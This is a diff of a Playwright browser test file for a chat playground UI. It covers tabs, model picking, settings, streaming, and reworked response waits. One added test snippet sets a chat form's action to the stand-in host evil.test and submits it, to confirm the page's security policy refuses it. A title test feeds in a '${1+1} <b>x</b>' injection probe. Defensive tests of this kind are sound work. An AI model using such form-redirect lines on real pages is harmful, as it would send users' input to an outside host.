@@ -1,22 +1,40 @@
 """The page, as a visitor uses it."""
 
+import json
 import re
+from collections.abc import Callable
 from typing import Any
 
 import pytest
-from playwright.sync_api import APIResponse, Locator, Page, Route, expect
+from playwright.sync_api import APIResponse, Locator, Page, Response, Route, expect
 
 from playground.ui.wiring import SHOW
 
 pytestmark = pytest.mark.browser
 
 
-def pick_model(page: Page, name: str) -> None:
-    """Types a model of the provider that is picked."""
+def about(*words: str) -> Callable[[Response], bool]:
+    """Whether an answer is to a request with these words: then what it asked for is done."""
+    return lambda reply: all(word in (reply.request.post_data or "") for word in words)
+
+
+def pick_provider(page: Page) -> None:
+    """Picks OpenAI, which has no key here."""
+    with page.expect_response(about('"provider":"openai"')):
+        page.get_by_role("radio", name="OpenAI").click()
+
+
+def type_model(page: Page, name: str) -> None:
+    """Types a model of the provider that is picked; its answer is not waited for."""
     field = page.locator("#model input")
     field.fill(name)
     field.press("Enter")
-    expect(page.locator("#box textarea")).to_be_editable()
+
+
+def pick_model(page: Page, name: str) -> None:
+    """Types a model of the provider that is picked."""
+    with page.expect_response(about(json.dumps(name)[1:])):  # before it, a listed one has its provider
+        type_model(page, name)
 
 
 def say(page: Page, text: str) -> None:
@@ -54,7 +72,7 @@ def test_an_agent_is_picked_and_its_example_sent_by_a_click(page: Page) -> None:
 
 
 def test_a_reload_in_the_middle_of_an_answer_goes_on(page: Page) -> None:
-    pick_model(page, "words-200@40")
+    pick_model(page, "words-9000@40")
     say(page, "go")
     expect(chat(page)).to_contain_text("w9 ")
     tab = page.get_by_role("tab", selected=True).inner_text()
@@ -62,8 +80,10 @@ def test_a_reload_in_the_middle_of_an_answer_goes_on(page: Page) -> None:
     expect(chat(page)).to_contain_text("w20 ")
     expect(page.get_by_role("tab", selected=True)).to_have_text(tab)
     expect(page.locator("#stop")).to_be_visible()
+    newest = int(re.findall(r"\bw(\d+)", chat(page).inner_text())[-1])
+    expect(chat(page)).to_contain_text(f"w{newest + 20} ")
+    page.locator("#stop").click()
     finished(page)
-    expect(chat(page)).to_contain_text("w199")
 
 
 def test_a_second_window_sees_the_same_live_run(page: Page) -> None:
@@ -79,7 +99,7 @@ def test_a_second_window_sees_the_same_live_run(page: Page) -> None:
 
 
 def test_escape_stops_the_answer(page: Page) -> None:
-    pick_model(page, "words-500@20")
+    pick_model(page, "words-9000@20")
     say(page, "go")
     expect(chat(page)).to_contain_text("w3 ")
     page.keyboard.press("Escape")
@@ -118,6 +138,7 @@ def test_an_edit_makes_a_version_and_the_versions_can_be_switched(page: Page) ->
     page.locator("#chat .edit-textarea").fill("two")
     page.get_by_role("button", name="Submit").click()
     expect(page.locator("#chat .user-row")).to_have_text(re.compile("two"))
+    finished(page)  # while it answers, no other version can be shown
     versions = page.locator("#versions input")
     versions.click()
     page.get_by_role("option").last.click()
@@ -137,7 +158,7 @@ def test_tabs_are_added_picked_renamed_closed_and_brought_back_by_keyboard(page:
     expect(tabs.nth(1)).to_be_focused()
     page.keyboard.press("F2")
     page.get_by_label("Title of the session").fill("${1+1} <b>x</b>")
-    with page.expect_response(lambda reply: '"title":"${1' in (reply.request.post_data or "")):
+    with page.expect_response(about('"title":"${1')):
         page.keyboard.press("Enter")
     expect(tabs.nth(1)).to_have_text("${1+1} <b>x</b>")
     page.reload()
@@ -173,10 +194,12 @@ def test_an_answer_that_was_overtaken_does_not_bring_an_old_title_back(page: Pag
 
     page.route("**/gradio_api/**", hold)
     tabs.nth(0).click()
+    while not answers:  # it is to tell the old title
+        page.wait_for_timeout(20)
     tabs.nth(0).focus()
     page.keyboard.press("F2")
     page.get_by_label("Title of the session").fill("Mine")
-    with page.expect_response(lambda reply: '"title":"Mine' in (reply.request.post_data or "")):
+    with page.expect_response(about('"title":"Mine')):
         page.keyboard.press("Enter")
     expect(tabs.nth(0)).to_have_text("Mine")
     page.evaluate(TITLES)
@@ -184,11 +207,12 @@ def test_an_answer_that_was_overtaken_does_not_bring_an_old_title_back(page: Pag
     assert "Mine" not in answer.text()
     with page.expect_request("**/queue/join*"):  # the page has taken the answer in, and watches the tab
         late.fulfill(response=answer)
+    page.wait_for_function("titles.length > 0")
     assert set(page.evaluate("titles")) == {"Mine"}
 
 
 def test_another_tab_can_be_used_while_one_answers(page: Page) -> None:
-    pick_model(page, "words-200@20")
+    pick_model(page, "words-9000@20")
     say(page, "go")
     expect(chat(page)).to_contain_text("w3 ")
     page.locator("button.add").click()
@@ -204,10 +228,10 @@ def test_another_tab_can_be_used_while_one_answers(page: Page) -> None:
 def test_settings_belong_to_the_tab_and_are_kept(page: Page) -> None:
     page.locator("button.settings").click()
     page.locator("#instructions textarea").fill("Be brief.")
-    page.locator("#temperature input").fill("0.5")
-    page.locator("#temperature input").blur()
+    with page.expect_response(about('"Be brief."', "0.5")):
+        page.locator("#temperature input").fill("0.5")
+        page.locator("#temperature input").blur()
     page.keyboard.press("Escape")
-    page.wait_for_timeout(500)
     page.reload()
     page.locator("button.settings").click()
     expect(page.locator("#instructions textarea")).to_have_value("Be brief.")
@@ -233,7 +257,7 @@ def test_the_history_opens_threads_and_asks_before_it_deletes(page: Page) -> Non
 
 
 def test_a_provider_without_a_key_says_what_is_missing(page: Page) -> None:
-    page.get_by_role("radio", name="OpenAI").click()
+    pick_provider(page)
     expect(page.locator("#providers")).to_contain_text("OPENAI_API_KEY")
     say(page, "hello")
     expect(page.get_by_role("alert")).to_contain_text("OPENAI_API_KEY")
@@ -244,6 +268,7 @@ def test_a_provider_without_a_key_says_what_is_missing(page: Page) -> None:
 def test_a_narrow_screen_needs_no_sideways_scroll(page: Page, scheme: str) -> None:
     page.set_viewport_size({"width": 390, "height": 844})
     page.goto(f"{page.url}&__theme={scheme}")
+    page.locator("#chat .placeholder h2").wait_for()
     expect(page.locator("body")).to_have_class(re.compile("dark") if scheme == "dark" else re.compile("^(?!.*dark)"))
     pick_model(page, "words-200")
     say(page, "x" * 300)
@@ -269,6 +294,15 @@ def test_a_message_cannot_cover_the_page(page: Page) -> None:
     expect(page.get_by_role("tab")).to_have_count(2)
 
 
+SUBMIT = """() => new Promise((done) => {
+  document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true });
+  const form = document.querySelector('#chat form') ?? document.body.appendChild(document.createElement('form'));
+  form.action = 'https://evil.test/f';
+  form.requestSubmit();
+})"""
+"""Answers which rule of the page refused it."""
+
+
 def test_a_form_in_a_message_sends_nothing_elsewhere(page: Page) -> None:
     say(
         page,
@@ -277,8 +311,7 @@ def test_a_form_in_a_message_sends_nothing_elsewhere(page: Page) -> None:
     finished(page)
     for button in page.locator("#chat .message form button").all():
         button.click()
-    page.evaluate("document.querySelectorAll('#chat form').forEach(form => form.requestSubmit())")
-    page.wait_for_timeout(300)
+    assert page.evaluate(SUBMIT) == "form-action"
     assert "evil.test" not in page.url
 
 
@@ -317,11 +350,12 @@ def test_the_turns_of_a_run_are_looked_at_with_the_keyboard(page: Page) -> None:
 
 
 def test_models_are_offered_with_their_prices_and_a_typed_one_stays_typed(page: Page) -> None:
-    page.locator("#providers").get_by_text("OpenAI").click()
+    pick_provider(page)
     field = page.locator("#model input")
     expect(field).to_have_value("gpt-6.1-terra · $1 / $5 · 1.05M")
     field.click()
-    page.get_by_role("option", name="gpt-6-luna · $0.10 / $0.50 · 1.05M").click()
+    with page.expect_response(about('gpt-6-luna"')):
+        page.get_by_role("option", name="gpt-6-luna · $0.10 / $0.50 · 1.05M").click()
     expect(field).to_have_value("gpt-6-luna · $0.10 / $0.50 · 1.05M")
     pick_model(page, "gpt-of-my-own")
     expect(field).to_have_value("gpt-of-my-own")
@@ -340,9 +374,8 @@ def test_a_second_pick_counts_while_the_first_is_under_way(page: Page) -> None:
             held.append(route)
 
     page.route("**/gradio_api/run/**", hold)
-    pick_model(page, "compatible/one")
-    with page.expect_response(lambda reply: "compatible/two" in (reply.request.post_data or "")):
-        pick_model(page, "compatible/two")
+    type_model(page, "compatible/one")
+    pick_model(page, "compatible/two")
     held[0].abort()
     page.reload()
     expect(field).to_have_value("two")
@@ -401,7 +434,7 @@ def test_of_several_calls_each_or_all_are_decided_on_a_phone(page: Page) -> None
 
 
 def test_only_the_efforts_that_a_model_takes_can_be_set(page: Page) -> None:
-    page.locator("#providers").get_by_text("OpenAI").click()
+    pick_provider(page)
     pick_model(page, "gpt-5")
     page.locator("button.settings").click()
     page.locator("#effort input").click()
